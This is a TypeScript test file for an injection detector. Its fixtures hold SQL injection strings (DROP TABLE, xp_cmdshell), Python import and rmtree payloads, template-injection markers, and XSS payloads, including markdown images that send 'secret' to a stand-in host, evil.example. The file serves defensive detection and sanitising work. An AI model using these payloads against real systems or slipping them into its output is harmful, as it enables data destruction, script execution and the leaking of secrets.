import fc from "fast-check";
import { describe, expect, inject, it } from "vitest";
import {
  findInjections,
  type InjectionKind,
  injectionKinds,
  withoutInjections,
} from "../../src/detection/injection.js";

const finds = (kind: InjectionKind, text: string): boolean =>
  findInjections(text, [kind]).length > 0;

describe.each<[InjectionKind, readonly string[], readonly string[]]>([
  [
    "sqli",
    [
      "SELECT * FROM users; DROP TABLE users;",
      "1 union select name from pg_shadow",
      "SELECT name, pass FROM users WHERE id = 'x",
      "delete from t -- all of it",
      "select char(65), 2",
      "INSERT INTO t VALUES (1) /* hidden\nrest",
      "DROP TABLE users --",
      "' OR 1=1",
      "x' or 'a'='a",
      "exec xp_cmdshell 'dir'; go",
      "UPDATE users SET admin = 1; -- x",
      "'; truncate table logs",
      "alter table t add c int; drop table t",
    ],
    [
      "SELECT name FROM users WHERE id = 1",
      "Please select a seat; then add a name -- thanks",
      "It's best to select items from the list; you can drop by later.",
      "Don't create tables here -- use the selection.",
      "We insert coins; they update us from time to time -- nice.",
      "An executive summary -- see below.",
      "The union's choice; select one.",
      "",
    ],
  ],
  [
    "code",
    [
      "Run:\nimport os\nos.system('ls')",
      "import sys, subprocess as sp",
      "from os import path",
      "from urllib.request import urlopen",
      "x; import socket",
      "__import__('shutil').rmtree('/')",
      'importlib.import_module("http")',
    ],
    [
      "import numpy as np",
      "from collections import abc",
      "The import of goods costs most.",
      "important cmd",
      "Import os",
      "We import from Oslo.",
      "import osmium",
    ],
  ],
  [
    "template",
    ["{{ config }}", "a {{x}} b", "{% for a in b %}", "{{\n7*7\n}}", "}} {{ {{ }}"],
    ["{ {x} }", "}} {{", "{{ x }", "a % b", "{% x }}"],
  ],
  [
    "xss",
    [
      "<script>steal()</script>",
      "<SCRIPT >\nsteal()\n</script >",
      "<script src=//evil.example/x.js>",
      "[click](javascript:alert(1))",
      "[click]( <javascript:alert(1)>)",
      '<a href="javascript:alert(1)">x</a>',
      "<img src=x onerror=alert(1)>",
      "![x](https://evil.example/p?q=secret)",
      "![x [y]](//evil.example/#secret)",
      "![x](https://evil.example/aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=)",
      "![x][ref]\n\n[ref]: https://evil.example/?q=secret",
      '<img alt="" src="https://evil.example/?q=1">',
      "![x](data:text/html;base64,AAAA)",
      "[a](x [b](javascript:alert(1))",
      "[a](x](javascript:alert(1))",
      '<img src="https://evil.example/?q=1" src="cat.png">',
      '<img data-src="cat.png" src="https://evil.example/?q=1">',
    ],
    [
      "a [link](https://ok.example/?q=1)",
      "![cat](cat.png)",
      "![cat](https://ok.example/cat.png)",
      "Put it in a <script> tag.",
      "[ref]: https://ok.example/?q=1",
      "onerror = handler",
      "the href of javascript files",
    ],
  ],
])("%s", (kind, attacks, others) => {
  it.each(attacks)("is found in %j", (text) => {
    expect(finds(kind, text)).toBe(true);
  });

  it.each(others)("is not found in %j", (text) => {
    expect(finds(kind, text)).toBe(false);
  });

  it("is omitted, and nothing of its kind is left", () => {
    for (const text of attacks) {
      const left = withoutInjections(`Before.\n${text}\nAfter.`, [kind]);
      expect(left).toMatch(/^Before\.\n/);
      expect(findInjections(left ?? "{{x}}", [kind])).toEqual([]);
    }
  });

  it("is searched for in time that grows with the text", () => {
    const pieces = [
      "<a ",
      "![",
      "](",
      "{{",
      "select a,",
      "import a,",
      "' or ",
      "/*",
      "[x]:",
      "--",
      "from ",
      "delete from ",
      "delete from\n",
      "[a](b",
      "<img src=",
    ];
    for (const piece of pieces) {
      // Quadratic, this would be 10^10 steps.
      expect(findInjections(piece.repeat(100_000), [kind])).toBeDefined();
    }
  });
});

describe("injections", () => {
  it("are named, of those asked for alone, in the order asked for", () => {
    const text = "{{ x }} <script>y</script>";
    expect(findInjections(text, ["xss", "sqli", "template"])).toEqual(["xss", "template"]);
    expect(findInjections(text, ["sqli"])).toEqual([]);
  });

  it("keep the text around them byte for byte", () => {
    const text = "Hello <script>steal()</script> world";
    expect(withoutInjections(text, ["xss"])).toBe("Hello  world");
    expect(withoutInjections("nothing here", [...injectionKinds])).toBe("nothing here");
  });

  it("cannot be put together by what is omitted between their halves", () => {
    expect(withoutInjections("{{{ a }}{ b }}", ["template"])).not.toMatch(/\{\{.*\}\}/);
    const nested = "<scr<script>x</script>ipt>y</script>";
    expect(findInjections(withoutInjections(nested, ["xss"]) ?? "", ["xss"])).toEqual([]);
  });

  it("are gone from whatever text they are omitted from, unless omitting is given up", {
    tags: "longer",
  }, () => {
    const piece = fc.constantFrom(
      "{{",
      "}}",
      "{%",
      "%}",
      "<script>",
      "</script>",
      "select * from t",
      ";",
      "--",
      "'",
      "x",
      "\n",
      " or 1=1",
      "import os",
      "![a](//b?c)",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const left = withoutInjections(pieces.join(""), [...injectionKinds]);
        return left === undefined || findInjections(left, [...injectionKinds]).length === 0;
      }),
      { numRuns: inject("long") ? 20_000 : 200 },
    );
  });

  it("are not omitted where that has no end", () => {
    const deep = "{{".repeat(40) + "}}".repeat(40);
    const left = withoutInjections(deep, ["template"]);
    expect(left === undefined || findInjections(left, ["template"]).length === 0).toBe(true);
  });
});

it("finds more than fits on the stack", () => {
  const text = `SELECT * FROM users; ${"--\n".repeat(150_000)}`;
  expect(findInjections(text, ["sqli"]).length).toBeGreaterThan(0);
  expect(withoutInjections(text, ["sqli"])).not.toContain("SELECT");
});
